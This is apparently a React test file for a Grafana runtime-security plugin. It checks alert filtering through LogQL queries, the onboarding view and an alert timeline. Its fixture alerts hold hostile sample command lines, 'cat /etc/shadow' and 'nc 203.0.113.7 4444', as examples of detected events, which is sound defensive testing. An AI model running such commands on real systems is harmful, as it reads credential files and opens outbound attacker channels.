import React from 'react';
import { act, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { of } from 'rxjs';
import { MemoryRouter } from 'react-router-dom';
import { LoadingState, type DataQueryRequest, type PanelData } from '@grafana/data';
import { setRunRequest } from '@grafana/runtime';
import { installDataSources } from '../../test-utils/dataSources';
import { EmbeddedScene, SceneTimeRange } from '@grafana/scenes';
import { buildRuntimeEventsParts, buildRuntimeEventsScene, runtimeEventsBody } from './runtimeEventsPage';
import { settingsFromJsonData } from '../../services/settings';
import { testIds } from '../../components/testIds';
import { AlertTimeline } from '../../components/AlertTimeline/AlertTimeline';
import { alertRowsFromFrames } from '../../services/alerts';
import { BASE_MS, alertEntry, logsFrame, type StreamEntry } from '../../services/lokiFrames.fixture';

// A Loki "server" for the test: answers each LogQL log query from a fixed set of alert lines, applying the stream
// selector's equality matchers and the |~ "(?i)…" line filter the way Loki does, so the filters are exercised end
// to end through the real SceneQueryRunner.
const ALERTS: StreamEntry[] = [
  alertEntry({ ms: BASE_MS, rule: 'Terminal shell in container', priority: 'Notice', captureId: '01KBK5YQNH9ED0DH' }),
  alertEntry({ ms: BASE_MS + 1000, rule: 'Read sensitive file untrusted', priority: 'Warning', namespace: 'shop', pod: 'cart-1', container: 'cart', proc: 'cat', cmdline: 'cat /etc/shadow' }),
  alertEntry({ ms: BASE_MS + 2000, rule: 'Outbound connection to C2', priority: 'Critical', namespace: 'shop', pod: 'cart-1', container: 'cart', proc: 'nc', cmdline: 'nc 203.0.113.7 4444' }),
];

const requests: string[] = [];

function unquote(s: string): string {
  return JSON.parse(s.replace(/\\x([0-9a-f]{2})/g, '\\u00$1')) as string;
}

function answer(expr: string): StreamEntry[] {
  const sel = /^\{([^}]*)\}/.exec(expr)?.[1] ?? '';
  const matchers = [...sel.matchAll(/(\w+)(=~|=)("(?:[^"\\]|\\.)*")/g)].map((m) => ({ label: m[1]!, op: m[2]!, value: unquote(m[3]!) }));
  const line = / \|~ ("(?:[^"\\]|\\.)*")$/.exec(expr);
  const re = line ? new RegExp(unquote(line[1]!).replace(/^\(\?i\)/, ''), 'i') : undefined;
  return ALERTS.filter(
    (e) =>
      matchers.every((m) => (m.op === '=' ? e.labels[m.label] === m.value : new RegExp(`^(?:${m.value})$`).test(e.labels[m.label] ?? ''))) &&
      (!re || re.test(e.line))
  );
}

beforeAll(() => {
  // Only Loki is configured: the page needs nothing else.
  installDataSources([{ uid: 'vigil-loki', type: 'loki' }], { runtimeInstances: true });
  setRunRequest((_ds: unknown, req: DataQueryRequest) => {
    const q = req.targets[0] as unknown as { expr: string; refId: string };
    requests.push(q.expr);
    const series = q.refId === 'alerts' ? [logsFrame(answer(q.expr), 'alerts')] : [];
    return of({ state: LoadingState.Done, series, timeRange: req.range } as PanelData);
  });
});

describe('Runtime events page', () => {
  it('renders the alerts of Loki and narrows them with the text and priority filters (via the LogQL sent)', async () => {
    // The page's own parts; the histogram VizPanel needs Grafana's panel plugin loader, so its runner is checked by its queries.
    const settings = settingsFromJsonData({});
    const parts = buildRuntimeEventsParts(settings);
    const scene = new EmbeddedScene({
      $timeRange: new SceneTimeRange({ from: 'now-6h', to: 'now' }),
      body: runtimeEventsBody(settings, [parts.filters, parts.timeline]),
    });
    render(
      <MemoryRouter>
        <scene.Component model={scene} />
      </MemoryRouter>
    );
    await waitFor(() => expect(screen.getAllByTestId(testIds.runtimeEvents.row)).toHaveLength(3), { timeout: 3000 });
    const rows = screen.getAllByTestId(testIds.runtimeEvents.row);
    // newest first
    expect(within(rows[0]!).getByText('Outbound connection to C2')).toBeInTheDocument();
    expect(within(rows[0]!).getByText('Critical')).toBeInTheDocument();

    // Hostile text: quotes and regex metacharacters stay literal in the query Loki gets.
    fireEvent.change(screen.getByTestId(testIds.runtimeEvents.textFilter), { target: { value: '/etc/shadow' } });
    fireEvent.keyDown(screen.getByTestId(testIds.runtimeEvents.textFilter), { key: 'Enter' });
    await waitFor(() => expect(screen.getAllByTestId(testIds.runtimeEvents.row)).toHaveLength(1));
    expect(screen.getByText('Read sensitive file untrusted')).toBeInTheDocument();
    expect(requests).toContain('{job="vigil", stream="alert"} |~ "(?i)/etc/shadow"');

    fireEvent.change(screen.getByTestId(testIds.runtimeEvents.textFilter), { target: { value: 'x".*' } });
    fireEvent.keyDown(screen.getByTestId(testIds.runtimeEvents.textFilter), { key: 'Enter' });
    await waitFor(() => expect(screen.getByTestId(testIds.runtimeEvents.empty)).toBeInTheDocument());
    expect(requests).toContain('{job="vigil", stream="alert"} |~ "(?i)x\\"\\\\.\\\\*"');

    // Priority filter, as the URL sets it.
    const filters = parts.filters;
    fireEvent.change(screen.getByTestId(testIds.runtimeEvents.textFilter), { target: { value: '' } });
    fireEvent.keyDown(screen.getByTestId(testIds.runtimeEvents.textFilter), { key: 'Enter' });
    act(() => filters.updateFromUrl({ 'var-priority': ['Critical', 'Warning', 'Bogus'] }));
    await waitFor(() => expect(screen.getAllByTestId(testIds.runtimeEvents.row)).toHaveLength(2));
    expect(requests[requests.length - 1]).toMatch(/priority=~"Critical\|Warning"/);
    expect((parts.histogram.state.queries[0] as unknown as { expr: string }).expr).toBe(
      'sum by (priority) (count_over_time({job="vigil", stream="alert", priority=~"Critical|Warning"} [$__auto]))'
    );
    expect(filters.getUrlState()['var-priority']).toEqual(['Critical', 'Warning']);
    // Several priorities cannot go to the dashboard's single-value variable: the link leaves it out.
    const dash = new URL(within(screen.getByTestId(testIds.runtimeEvents.links)).getByRole('link', { name: 'Runtime security dashboard' }).getAttribute('href')!, 'http://x');
    expect(dash.pathname).toBe('/d/vigil-runtime-security');
    expect(dash.searchParams.get('var-priority')).toBeNull();
    expect(dash.searchParams.get('from')).toBe('now-6h');

    // The Overview's node link (var-node) narrows the timeline too.
    act(() => filters.updateFromUrl({ 'var-node': ['node-b'] }));
    await waitFor(() => expect(screen.getByTestId(testIds.runtimeEvents.empty)).toBeInTheDocument());
    expect(requests[requests.length - 1]).toMatch(/node="node-b"/);
    act(() => filters.updateFromUrl({ 'var-node': ['node-a'] }));
    await waitFor(() => expect(screen.getAllByTestId(testIds.runtimeEvents.row)).toHaveLength(2));
  });
});

describe('Runtime events onboarding', () => {
  it('shows only the onboarding when the Loki data source is missing: no filters, histogram or timeline, no query', async () => {
    const before = requests.length;
    const scene = buildRuntimeEventsScene(settingsFromJsonData({ lokiUid: 'gone-loki' }));
    render(
      <MemoryRouter>
        <scene.Component model={scene} />
      </MemoryRouter>
    );
    const onboarding = await screen.findByTestId(testIds.onboarding.container);
    expect(onboarding).toHaveAttribute('data-onboarding-kind', 'datasource-missing');
    expect(onboarding).toHaveTextContent('The Loki data source "gone-loki" does not exist');
    expect(screen.getByTestId(testIds.runtimeEvents.container)).toContainElement(onboarding);
    expect(screen.queryByTestId(testIds.runtimeEvents.filters)).not.toBeInTheDocument();
    expect(screen.queryByTestId(testIds.runtimeEvents.timeline)).not.toBeInTheDocument();
    expect(screen.queryByText('Alerts by priority')).not.toBeInTheDocument();
    expect(screen.queryByText('Loading alerts…')).not.toBeInTheDocument();
    expect(requests.length).toBe(before);
  });
});

describe('AlertTimeline', () => {
  it('links each alert to its container and to its capture, and shows the full JSON on demand', () => {
    const { rows, malformed } = alertRowsFromFrames([logsFrame([...ALERTS, { ...ALERTS[0]!, line: 'garbage', tsNs: '5' }])]);
    render(
      <MemoryRouter>
        <AlertTimeline rows={rows} malformed={malformed} inspectRoute="/a/vigil-security-app/inspect" />
      </MemoryRouter>
    );
    expect(screen.getByTestId(testIds.runtimeEvents.malformed)).toHaveTextContent('1 malformed alert line skipped');
    const shell = screen.getAllByTestId(testIds.runtimeEvents.row)[2]!;
    const containerLink = within(shell).getByRole('link', { name: /web\/frontend-7d9c8b6f5d-x2x7k\/nginx/ });
    const u = new URL(containerLink.getAttribute('href')!, 'http://x');
    expect(u.pathname).toBe('/a/vigil-security-app/inspect');
    expect(Object.fromEntries(u.searchParams)).toEqual({
      'var-namespace': 'web',
      'var-pod': 'frontend-7d9c8b6f5d-x2x7k',
      'var-container': 'nginx',
      'var-node': 'node-a',
      from: String(BASE_MS - 300_000),
      to: String(BASE_MS + 300_000),
    });
    const capture = within(shell).getByRole('link', { name: 'Capture' });
    expect(new URL(capture.getAttribute('href')!, 'http://x').searchParams.get('capture')).toBe('01KBK5YQNH9ED0DH');
    // An alert without a capture has no capture link.
    expect(within(screen.getAllByTestId(testIds.runtimeEvents.row)[0]!).queryByRole('link', { name: 'Capture' })).toBeNull();
    fireEvent.click(within(shell).getByRole('button', { name: /Show details of Terminal shell/ }));
    expect(screen.getByTestId(testIds.runtimeEvents.detail)).toHaveTextContent('"capture_id": "01KBK5YQNH9ED0DH"');
  });

  it('renders only a window of 10k rows', () => {
    const entries = Array.from({ length: 10_000 }, (_, i) => alertEntry({ ms: BASE_MS + i }));
    const { rows } = alertRowsFromFrames([logsFrame(entries)]);
    render(
      <MemoryRouter>
        <AlertTimeline rows={rows} malformed={0} inspectRoute="/i" height={400} />
      </MemoryRouter>
    );
    const shown = screen.getAllByTestId(testIds.runtimeEvents.row).length;
    expect(shown).toBeGreaterThan(5);
    expect(shown).toBeLessThan(60);
    expect(screen.getByRole('table', { name: 'Alerts' })).toHaveAttribute('aria-rowcount', '10001');
  });
});
